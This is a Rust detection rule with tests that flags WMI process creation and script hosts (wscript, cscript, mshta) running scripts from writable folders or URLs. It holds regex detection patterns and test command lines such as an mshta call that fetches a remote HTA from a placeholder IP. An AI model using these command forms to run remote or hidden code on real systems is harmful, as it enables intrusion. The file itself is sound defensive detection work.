//! SCRIPT-03: WMI or a script host runs something.
//!
//! Sees: `wmic process call create`, PowerShell calls of Win32_Process, wscript, cscript and mshta with a script from a folder
//! that users may write to, a share, a URL or a stream, and interpreters that the WMI provider host starts.
//! Why: scripts that arrive by mail or download run this way, and WMI starts processes without a visible parent.
//! Benign causes: logon scripts on SYSVOL (not reported), inventory by WMI, administrators' scripts.
//! Sources: MITRE ATT&CK T1047, T1059.005, T1059.007; Microsoft's documentation of wmic.

use std::sync::LazyLock;

use regex::Regex;

use super::meta::{Key, Level, Meta, Threshold};
use super::script_blocks::{self, blocks};
use super::starts::{self, command, names, quote, technique_of};
use super::{Cx, Hit, KeyRows, Signal};
use crate::knowledge::programs::INTERPRETERS;
use crate::lake::frame::Row;
use crate::rules::paths;
use crate::schema::{process as t, script};

/// See the module.
pub struct Script03;

const MAX_SCRIPT: f64 = 16384.0;

static META: Meta = Meta {
    id: "SCRIPT-03",
    title: "WMI or script-host execution",
    sees: "wmic process call create or its PowerShell forms; wscript, cscript or mshta with a script from a writable \
           folder, share, URL or stream; an interpreter started by the WMI provider host.",
    why: "Scripts from mails and downloads run this way, and WMI starts processes without a visible parent.",
    techniques: &["T1047", "T1059.005", "T1059.007", "T1218.005"],
    stage: "execution",
    family: "scripts",
    key: Key::Host,
    reads: script_blocks::WITH_STARTS,
    level: Level::Medium,
    decisive: false,
    thresholds: &[Threshold {
        name: "script_bytes",
        value: MAX_SCRIPT,
        unit: "bytes",
        source: "[J] longer blocks are modules that name every class",
    }],
    benign: &[
        "logon scripts on SYSVOL (not reported)",
        "inventory by WMI",
        "administrators' scripts",
    ],
};

static CREATE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\bwmic(?:\.exe)?\b.{0,400}?\bprocess\b.{0,200}?\bcall\s+create\b").ok());

static POWERSHELL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?is)(?:invoke-wmimethod|invoke-cimmethod|\biwmi\b|\bicim\b).{0,300}?win32_process\b.{0,200}?create|(?:\[wmiclass\]|managementclass).{0,120}?win32_process\b.{0,300}?create"#).ok()
});

impl Signal for Script03 {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn scan(&self, cx: &Cx<'_>, rows: &KeyRows<'_>, hits: &mut Vec<Hit>) {
        for row in starts::starts(rows.table(&t::TABLE)) {
            hits.extend(judge(row));
        }
        for block in blocks(rows.table(&script::TABLE)) {
            if block.text.len() <= cx.number(&META, "script_bytes") as usize && is(&POWERSHELL, &block.text) {
                let explain = format!("a script starts a process through WMI: {}", quote(&block.text));
                hits.push(Hit::at(&META, block.row, "powershell:win32_process", explain).techniques(&["T1047"]));
            }
        }
    }
}

fn is(pattern: &LazyLock<Option<Regex>>, text: &str) -> bool {
    pattern.as_ref().is_some_and(|r| r.is_match(text))
}

fn judge(row: Row<'_>) -> Option<Hit> {
    let line = row.str(t::CMDLINE);
    let plain = line.replace(['^', '"'], "");
    let (key, what, techniques): (String, &str, Vec<&'static str>) =
        if starts::is_one_of(row, &["wmic"]) && is(&CREATE, &plain) {
            ("wmic:create".to_owned(), "wmic starts a process", vec!["T1047"])
        } else if starts::is_one_of(row, &["powershell", "pwsh"]) && is(&POWERSHELL, line) {
            (
                "powershell:win32_process".to_owned(),
                "PowerShell starts a process through WMI",
                vec!["T1047"],
            )
        } else if starts::is_one_of(row, &["cscript", "mshta", "wscript"]) && foreign_script(line) {
            let (image, original) = names(row);
            let host = if ["cscript", "mshta", "wscript"].contains(&image.as_str()) {
                image
            } else {
                original
            };
            let own = technique_of(&host, line)?;
            (
                format!("{host}:script"),
                "a script host runs a script from outside",
                vec![own],
            )
        } else if row.str(t::PARENT_NAME) == "wmiprvse.exe" && starts::is_one_of(row, INTERPRETERS) {
            let (image, _) = names(row);
            let own = technique_of(&image, line).filter(|id| id.starts_with("T1059"));
            (
                format!("wmiprvse>{image}"),
                "the WMI provider host started an interpreter",
                ["T1047"].into_iter().chain(own).collect(),
            )
        } else {
            return None;
        };
    let mut hit = Hit::at(&META, row, key, format!("{what}: {}", command(row))).techniques(&techniques);
    hit.iocs = starts::iocs(row);
    Some(hit)
}

/// Whether a script host is given a script from where users, the network or a stream can put it. The shares of domain
/// controllers that hold logon scripts do not count.
fn foreign_script(line: &str) -> bool {
    let lower = line.to_lowercase();
    if lower.contains("\\sysvol\\") || lower.contains("\\netlogon\\") {
        return false;
    }
    let arguments = crate::rules::cmdline::tokenize(line);
    let outside = |a: &String| {
        let a = a.to_lowercase();
        ["http:", "https:", "javascript:", "vbscript:", "script:"]
            .iter()
            .any(|p| a.starts_with(p))
            || (!a.starts_with("//") && paths::user_writable(&a).is_some())
    };
    arguments.iter().skip(1).any(outside)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::starts::testing::hits_of;

    fn technique(image: &str, parent: &str, line: &str) -> Option<String> {
        hits_of(&Script03, image, parent, line)
            .first()
            .map(|h| h.techniques[0].to_string())
    }

    #[test]
    fn wmi_and_scripts_from_outside_are_told() {
        for (image, parent, line, expected) in [
            (
                r"C:\Windows\System32\wbem\WMIC.exe",
                "cmd.exe",
                "wmic process call create \"cmd /c calc\"",
                "T1047",
            ),
            (
                "wscript.exe",
                "explorer.exe",
                r"wscript C:\Users\a\AppData\Local\Temp\a.js",
                "T1059.007",
            ),
            (
                "cscript.exe",
                "cmd.exe",
                r"cscript //nologo C:\Users\Public\a.vbs",
                "T1059.005",
            ),
            ("mshta.exe", "cmd.exe", "mshta http://192.0.2.1/a.hta", "T1218.005"),
            ("powershell.exe", "wmiprvse.exe", "powershell -c x", "T1047"),
            (
                "powershell.exe",
                "cmd.exe",
                "powershell Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc",
                "T1047",
            ),
        ] {
            assert_eq!(technique(image, parent, line).as_deref(), Some(expected), "{line}");
        }
    }

    #[test]
    fn logon_scripts_queries_and_licensing_are_ordinary() {
        for (image, parent, line) in [
            (
                "cscript.exe",
                "gpscript.exe",
                r"cscript \\corp.example\SYSVOL\logon.vbs",
            ),
            ("wmic.exe", "cmd.exe", "wmic os get caption"),
            (
                "cscript.exe",
                "cmd.exe",
                r"cscript //nologo C:\Windows\System32\slmgr.vbs /xpr",
            ),
        ] {
            assert_eq!(technique(image, parent, line), None, "{line}");
        }
    }
}
